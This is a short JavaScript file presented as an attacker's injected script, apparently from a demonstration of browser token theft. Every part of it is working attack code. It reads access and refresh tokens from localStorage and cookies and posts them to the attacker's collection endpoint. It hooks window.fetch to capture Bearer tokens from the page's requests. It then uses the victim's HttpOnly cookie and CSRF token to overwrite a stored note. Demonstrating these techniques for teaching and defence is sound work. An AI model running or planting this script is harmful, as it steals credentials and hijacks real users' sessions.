// The attacker's script. It runs in the victim's page, so it may do what the page may do.

/** Tell the attacker's server what was found, and where. */
function report(where, value) {
  const url = new URL("collect", import.meta.url);
  fetchAsItWas(url, { method: "POST", mode: "no-cors", body: JSON.stringify({ where, value }) });
}

const fetchAsItWas = window.fetch;

// 1. Read the tokens, wherever a script can.
for (const name of ["accessToken", "refreshToken"]) {
  const token = localStorage.getItem(name);
  if (token) report(`localStorage.${name}`, token);
}
const cookies = Object.fromEntries(document.cookie.split("; ").map((each) => each.split("=")));
for (const name in cookies) {
  if (name) report(`document.cookie ${name}`, cookies[name]);
}

// 2. A token in memory cannot be read, but it goes through fetch with the page's next request.
window.fetch = (url, options) => {
  const value = options?.headers?.Authorization;
  if (value) report("the page's next request", value.replace("Bearer ", ""));
  return fetchAsItWas(url, options);
};

// 3. An HttpOnly cookie cannot be read, but the browser sends it with each request of this page.
const answer = await fetchAsItWas("/cookie/note", {
  method: "POST",
  headers: { "Content-Type": "application/json", "X-CSRF-Token": cookies["__Host-csrf"] ?? "" },
  body: JSON.stringify({ note: "Written by mallory's script" }),
});
if (answer.ok) report("a request with the cookie", `${answer.status}, the note is replaced`);
